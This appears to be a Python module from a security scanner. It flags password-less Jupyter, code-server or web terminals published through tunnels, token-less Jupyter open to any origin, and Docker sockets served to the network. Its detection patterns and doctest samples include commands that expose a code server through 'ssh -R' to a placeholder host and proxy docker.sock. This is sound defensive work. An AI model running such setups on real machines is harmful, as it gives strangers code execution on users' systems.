"""A service that runs code for whoever connects, opened without a password and published
through a tunnel.

The family: a "remote notebook", "share your terminal" or "pair with support" helper starts
Jupyter with an empty token, code-server with ``--auth none`` or a web terminal (``ttyd``,
``gotty``) on a shell, and publishes its port through ``ssh -R`` to a host the author
wrote, or through ngrok, cloudflared, localtunnel or bore. Whoever reaches the tunnel runs
code on the user's machine. Either half alone is ordinary: a token-less notebook inside a
container, a tunnel that shows a web page.

>>> script = "jupyter lab --ServerApp.token='' &\\nssh -fN -R 8888:localhost:8888 t@share.invalid"
>>> [f.rule_id for f in exposed_service_findings("open.sh", script)]
['exposed-code-server']
>>> exposed_service_findings("open.sh", "jupyter lab --ServerApp.token='' --ip=0.0.0.0")
[]
"""

from __future__ import annotations

import re

from .destinations import is_local
from .findings import ThreatFinding, finding_at, line_finding
from .literal_scan import scanner_for

RULE_ID = "exposed-code-server"
_OPEN_CODE_SERVER = re.compile(
    r"\bjupyter(?:-lab|-notebook)?\b[^\n]*?--(?:NotebookApp|ServerApp|IdentityProvider)\.(?:token|password)"
    r"(?:=|\s+)(?:''|\"\")"
    r"|\bc\.(?:NotebookApp|ServerApp|IdentityProvider)\.(?:token|password)\s*=\s*(?:''|\"\")"
    r"|\bcode-server\b[^\n]*--auth[=\s]+none\b"
    r"|\b(?:ttyd|gotty)\b[^\n]*?\s(?:-W\s+)?(?:/bin/)?(?:bash|sh|zsh|fish|login|powershell|cmd)\b"
)
"""A server that runs code, started with no password or token."""
_TUNNEL_SERVICE = re.compile(
    r"\bngrok\s+(?:http|tcp|tls)\b|\bcloudflared\s+tunnel\b|\blt\s+(?:--port|-p)\b|\bbore\s+local\b"
    r"|\blocaltunnel\b|\bserveo\.net\b|\blocalhost\.run\b|\bpinggy\.io\b"
)
"""A public tunnel service publishing a local port."""
_REMOTE_FORWARD = re.compile(r"\bssh\b[^\n]*?\s-[A-Za-z]*R\b[^\n]*")
_HOST_WORD = re.compile(r"(?:^|\s)(?:[\w.-]+@)?([A-Za-z0-9-]+(?:\.[A-Za-z0-9-]+)+)(?=\s|$|['\"`])")


def exposed_service_findings(path: str, text: str) -> list[ThreatFinding]:
    """A finding at the tunnel line when the same file opens a password-less code server."""
    if not scanner_for(_OPEN_CODE_SERVER).search(text):
        return []
    lines = text.splitlines()
    for number, line in enumerate(lines, 1):
        if _TUNNEL_SERVICE.search(line) or _forwards_to_public_host(line):
            return [
                line_finding(
                    path,
                    lines,
                    number,
                    "9.1",
                    "high",
                    "publishes a code server started without a password (Jupyter, code-server, "
                    "a web terminal) through a tunnel: whoever reaches it runs code here",
                    RULE_ID,
                )
            ]
    return []


NOTEBOOK_RULE_ID = "exposed-notebook-any-site"
_TOKENLESS_NOTEBOOK = re.compile(
    r"(?:--|\bc\.)(?:NotebookApp|ServerApp|IdentityProvider)\.token\s*=?\s*(?:''|\"\")"
)
_ANY_SITE = re.compile(
    r"(?:--|\bc\.)(?:NotebookApp|ServerApp)\.(?:disable_check_xsrf\s*=\s*True"
    r"|allow_origin\s*=\s*(?:'\*'|\"\*\"|\*))"
)
"""Jupyter told to accept requests from any web page: its cross-site request check off, or
every origin allowed."""


def open_notebook_findings(path: str, text: str) -> list[ThreatFinding]:
    """A finding where a Jupyter server with an empty token is also opened to requests from
    any web page: every site the user visits can then run code in its kernels.

    >>> config = "c.ServerApp.token = ''\\nc.ServerApp.disable_check_xsrf = True\\n"
    >>> [(f.line, f.rule_id) for f in open_notebook_findings("jupyter_config.py", config)]
    [(2, 'exposed-notebook-any-site')]
    >>> open_notebook_findings("jupyter_config.py", config.replace("''", "'s3cret'"))
    []
    """
    if "App." not in text or not _TOKENLESS_NOTEBOOK.search(text):
        return []
    opened = _ANY_SITE.search(text)
    if opened is None:
        return []
    return [
        finding_at(
            path,
            text,
            opened.start(),
            "9.1",
            "high",
            "opens a Jupyter server with no token to requests from any web page (cross-site "
            "check off or every origin allowed): any site the user visits can run code here",
            NOTEBOOK_RULE_ID,
        )
    ]


SOCKET_RULE_ID = "exposed-docker-socket"
_DOCKER_SOCKET_ROUTE = re.compile(
    r"\breverse_proxy\s+[^\n]*?unix/+[\w./-]*docker\.sock\b"
    r"|\bproxy_pass\s+https?://unix:[\w./-]*docker\.sock\b"
    r"|\bTCP[46]?-LISTEN:\d+[^\n]*?UNIX-CONNECT:[\w./-]*docker\.sock\b"
    r"|\bdockerd?\b[^\n]*?-H\s*[=\s]?\s*tcp://0\.0\.0\.0:\d+(?![^\n]*--tls)",
    re.IGNORECASE,
)
"""The Docker daemon's socket served to the network: a web route, a socat listener, or a
plain-TCP listener on every interface. Whoever reaches it runs containers as root."""


def docker_socket_route_findings(path: str, text: str) -> list[ThreatFinding]:
    """A finding at each line that serves the Docker socket to the network.

    >>> caddy = "status.lab {\\n  handle /v1*/* {\\n    reverse_proxy unix//var/run/docker.sock"
    >>> [(f.line, f.rule_id) for f in docker_socket_route_findings("Caddyfile", caddy)]
    [(3, 'exposed-docker-socket')]
    >>> docker_socket_route_findings("compose.yml", "- /var/run/docker.sock:/var/run/docker.sock")
    []
    """
    if "docker" not in text:
        return []
    lines = text.splitlines()
    return [
        line_finding(
            path,
            lines,
            number,
            "9.1",
            "high",
            "serves the Docker daemon's socket to the network: whoever reaches it runs "
            "containers as root on this host",
            SOCKET_RULE_ID,
        )
        for number in sorted(
            {text.count("\n", 0, m.start()) + 1 for m in _DOCKER_SOCKET_ROUTE.finditer(text)}
        )
    ]


def _forwards_to_public_host(line: str) -> bool:
    """``ssh -R`` publishing a local port on a host that is not this machine's network."""
    forward = _REMOTE_FORWARD.search(line)
    if not forward:
        return False
    return any(not is_local(host) for host in _HOST_WORD.findall(forward.group()))
